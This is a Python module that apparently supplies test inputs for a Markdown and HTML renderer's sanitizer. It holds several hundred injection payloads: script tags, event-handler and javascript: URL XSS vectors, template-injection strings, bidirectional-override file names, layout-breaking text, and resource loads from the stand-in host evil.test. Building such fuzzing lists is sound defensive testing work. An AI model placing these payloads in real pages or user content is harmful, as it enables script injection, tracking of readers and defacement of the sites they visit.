"""Texts that try to run, load, leak, restyle or reorder something, as markup, as Markdown and within it."""

from __future__ import annotations

MARKUP = (
    "<script>window.__hit=1</script>", "<img src=x onerror=\"window.__hit=1\">", "<svg onload=window.__hit=1>",
    "<img src=\"http://evil.test/pixel.png\">", "![x](http://evil.test/md.png)", "[click](javascript:window.__hit=1)",
    "<a href=\"javascript:window.__hit=1\">x</a>", "<iframe src=\"http://evil.test/\"></iframe>",
    "<link rel=stylesheet href=http://evil.test/a.css>", "<style>*{display:none!important}</style>",
    "<style>@import url(http://evil.test/b.css);</style>", "<div style=\"position:fixed;inset:0;background:red\">x</div>",
    "<div style=\"background:url(http://evil.test/c.png)\">x</div>", "<object data=http://evil.test/o></object>",
    "<embed src=http://evil.test/e>", "<video src=http://evil.test/v autoplay></video>",
    "<audio src=http://evil.test/a autoplay></audio>", "<form action=http://evil.test/><input name=q><button>go</button></form>",
    "<meta http-equiv=refresh content=\"0;url=http://evil.test/\">", "<base href=http://evil.test/>",
    "<body onload=window.__hit=1>", "<details open ontoggle=window.__hit=1>x</details>",
    "<input autofocus onfocus=window.__hit=1>", "<marquee onstart=window.__hit=1>x</marquee>",
    "<math><mi xlink:href=\"javascript:window.__hit=1\">x</mi></math>", "<template><script>window.__hit=1</script></template>",
    "<textarea></textarea><script>window.__hit=1</script>", "</textarea><script>window.__hit=1</script>",
    "</div></div></div></body></html><h1 id=broken>x</h1>", "</script><script>window.__hit=1</script>",
    "--><script>window.__hit=1</script>", "]]><script>window.__hit=1</script>", "<!--", "<plaintext>", "<xmp>", "<table><tr><td>",
    "\"><script>window.__hit=1</script>", "'><script>window.__hit=1</script>", "\" onmouseover=\"window.__hit=1",
    "' onfocus='window.__hit=1' autofocus='", "javascript:window.__hit=1", "data:text/html,<script>window.__hit=1</script>",
    "<a href=\"data:text/html,<script>parent.__hit=1</script>\">x</a>", "http://evil.test/bare-link", "<http://evil.test/auto>",
    "{{value}}", "{{constructor.constructor('window.__hit=1')()}}", "${window.__hit=1}", "`${window.__hit=1}`", "{%raw%}{{7*7}}",
    "{{#each this}}x{{/each}}", "{{{value}}}", "{{#if", "{{/each}}", "<%= 7*7 %>", "#{7*7}", "@{window.__hit=1}", "[[${7*7}]]",
    "$(window.__hit=1)", "$$\\href{javascript:window.__hit=1}{x}$$", "\\(\\input{x}\\)", "```html\n<script>window.__hit=1</script>\n```",
    "&lt;script&gt;window.__hit=1&lt;/script&gt;", "&#x3C;script&#x3E;window.__hit=1&#x3C;/script&#x3E;", "\\u003cscript\\u003e",
    "<scr<script>ipt>window.__hit=1</scr</script>ipt>", "<ScRiPt>window.__hit=1</ScRiPt>", "<script\x0b>window.__hit=1</script>",
    "<img/src=x/onerror=window.__hit=1>", "<svg><script>window.__hit=1</script></svg>", "<svg><use href=http://evil.test/u.svg#a></svg>",
    "<svg><image href=http://evil.test/i.png></svg>", "<svg><a xlink:href=javascript:window.__hit=1><text>x</text></a></svg>",
    "<img srcset=\"http://evil.test/s.png 1x\">", "<picture><source srcset=http://evil.test/p.png></picture>",
    "<p style=\"font-size:900px\">x</p>", "<h1>x</h1>" * 20, "<br>" * 200,
)  # fmt: skip
BIDI = ("\u202egnp.exe", "\u202d\u202dabc", "\u2066\u2066abc", "\u2067abc", "\u2068abc", "\u200fabc\u200e", "\u061cabc", "abc\u202c\u202c",
         "\u202e" * 50 + "x", "مرحبا \u202e <b>x</b>", "\u2069\u2069</div>")  # fmt: skip
GLYPHS = ("\u0300" * 500 + "zalgo", "H" + "\u0489" * 200, "👩‍👩‍👧‍👦" * 50, "\ufeffbom", "\u200b" * 300 + "zero width", "a" * 3000,
           "\u3164" * 200, "\u2028line\u2029paragraph", "\x01\x02\x1b[31mred", "\t" * 300 + "tab", "‱" * 500, "𒐫" * 300,
           "ﷺ﷽" * 100, "\U000e0041\U000e0042 tags", "\u0e47" * 300, "x\r\n\r\n" * 100, "\x7f\x80\x9f", "𝕊" * 200)  # fmt: skip


_RUN, _FROM = "window.__hit=1", "http://evil.test"
MARKDOWN = (
    # Links and images in each of Markdown's forms.
    f"[a](javascript:{_RUN})", f"[a](JaVaScRiPt:{_RUN})", f"[a](&#106;avascript:{_RUN})", f"[a](java\tscript:{_RUN})", f"[a]( javascript:{_RUN} )",
    f"[a](<javascript:{_RUN}>)", f"[a](vbscript:{_RUN})", "[a](data:text/html;base64,PHNjcmlwdD4=)", "[a](//evil.test/x)", "[a](\\\\evil.test\\x)",
    f"[a]({_FROM}/x \"t\" onmouseover=\"{_RUN}\")", f"[a]({_FROM}/x '\"><img src=x onerror={_RUN}>')", f"[<img src=x onerror={_RUN}>]({_FROM})",
    f"[a](\"><script>{_RUN}</script>)", f"![a]({_FROM}/i.png)", f"![a]({_FROM}/i.png \"t\")", f"![\"onerror=\"{_RUN}](x)", f"![a](x\"onerror=\"{_RUN})",
    f"![a](x' onerror='{_RUN})", f"![![a]({_FROM}/1.png)]({_FROM}/2.png)", f"[![a]({_FROM}/b.png)](javascript:{_RUN})", f"![a][r]\n\n[r]: {_FROM}/r.png",
    f"[a][r]\n\n[r]: javascript:{_RUN}", f"[r]\n\n[r]: {_FROM} \"><script>{_RUN}</script>\"", f"<javascript:{_RUN}>", f"<{_FROM}/a?x='onclick={_RUN}>",
    "<mailto:a@evil.test>", f"www.evil.test/<script>{_RUN}</script>", f"{_FROM}/\"onmouseover={_RUN}", f"![a](<{_FROM}/i.png>)", "[a](ftp://evil.test)",
    "[a](#main)", "[a](/?run=x)", "![a](/favicon.ico)", "![a](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    # HTML within blocks of Markdown.
    f"# <img src=x onerror={_RUN}>", f"> <script>{_RUN}</script>", f"- <svg onload={_RUN}>\n- <iframe src={_FROM}>", f"1. <img src={_FROM}/li.png>",
    f"**<img src=x onerror={_RUN}>**", "~~<style>*{display:none!important}</style>~~", f"*<a href=javascript:{_RUN}>x</a>*",
    f"<div>\n\n<script>{_RUN}</script>\n\n</div>", f"<div\n\nonclick={_RUN}>", f"<!-- x -->\n<script>{_RUN}</script>", f"<?php {_RUN} ?>", f"<![CDATA[<script>{_RUN}</script>]]>",
    f"<pre>\n<script>{_RUN}</script>\n</pre>", f"<details open ontoggle={_RUN}>\n\n# x\n\n</details>", f"<table><tr><td background={_FROM}/t.png>x</td></tr></table>",
    f"Title <img src=x onerror={_RUN}>\n===", f"Title\n---\n<script>{_RUN}</script>",
    # Code.
    f"```\n<script>{_RUN}</script>\n```", f"```<script>{_RUN}</script>\nx\n```", f"```\"onmouseover=\"{_RUN}\nx\n```", f"~~~ js onload={_RUN}\n</code></pre><script>{_RUN}</script>\n~~~",
    f"`</code><script>{_RUN}</script>`", f"``` `` </code><img src=x onerror={_RUN}> ```", f"    </pre><script>{_RUN}</script>", f"```html\n<img src={_FROM}/f.png>\n```",
    "```\n</div></div></div><h1 id=broken>x</h1>", f"```mermaid\nclick A \"javascript:{_RUN}\"\n```", f"```svg\n<svg onload={_RUN}>\n```", "```\n" + "x" * 4000 + "\n```",
    f"- ```\n  <script>{_RUN}</script>\n  ```", f"> ```\n> <script>{_RUN}</script>\n> ```", f"```{'x' * 2000}\ny\n```", "`" + "y" * 4000 + "`",
    # Tables.
    f"|a|b|\n|-|-|\n|<script>{_RUN}</script>|<img src=x onerror={_RUN}>|", f"|<svg onload={_RUN}>|b|\n|-|-|\n|1|2|", f"|a|\n|-|\n|![x]({_FROM}/c.png)|",
    f"|a|\n|-|\n|[x](javascript:{_RUN})|", "|a|\n|-|\n|</td></tr></table></div><h1 id=broken>x</h1>|", f"|a|b|\n|:-|-:|\n|`</code><script>{_RUN}</script>`|x|",
    f"|a\" onclick=\"{_RUN}|b|\n|-|-|\n|1|2|", "|" + "a|" * 300 + "\n|" + "-|" * 300 + "\n|" + "1|" * 300, "|a|\n|-|\n|" + "w" * 3000 + "|", "|a|\n|-|\n" + "|x|\n" * 200,
    f"a|b\n-|-\n1|2|<script>{_RUN}</script>", "|a|\n|-|\n|\u202ex|",
    # Mathematics.
    f"$<img src=x onerror={_RUN}>$", f"$$\n<script>{_RUN}</script>\n$$", f"\\(<svg onload={_RUN}>\\)", f"\\[\n</p><script>{_RUN}</script>\n\\]",
    f"\\begin{{x}}\n<script>{_RUN}</script>\n\\end{{x}}", f"$\\url{{javascript:{_RUN}}}$", f"$\\includegraphics{{{_FROM}/m.png}}$", "$" + "x_{" * 400 + "}" * 400 + "$",
    # Entities and escapes.
    f"&lt;img src=x onerror={_RUN}&gt;", f"&#60;script&#62;{_RUN}&#60;/script&#62;", f"\\<script>{_RUN}\\</script>", f"&amp;lt;script&amp;gt;{_RUN}", "&#x202E;txt.exe", "&#0;&#xD800;&#x110000;",
    f"&quot; onmouseover=&quot;{_RUN}", f"\\`</code><script>{_RUN}</script>\\`",
    # What would break a layout.
    "> " * 60 + "deep", "- " * 60 + "deep", "# " + "W" * 3000, "---\n" * 100, "\n" * 400 + "far", "* * *\n" * 50, "1. " + "9" * 400, "999999999. far", "**" * 500 + "x", "[" * 500 + "x",
    "`" * 501 + "x", "![" * 300 + "x", "_" * 500 + "x" + "_" * 500, "\\" * 500, "~~" * 400, "<" * 500, "&" * 500, "|" * 500, "\u00a0" * 2000 + "x", "\u2003" * 500 + "x",
)  # fmt: skip


def payloads() -> list[str]:
    """At least 300 texts, none twice."""
    base = [*MARKUP, *BIDI, *GLYPHS]
    wrapped = [f"before {text} after\n\n{text}" for text in base]
    return list(dict.fromkeys([*(base + wrapped)[:200], *MARKDOWN]))
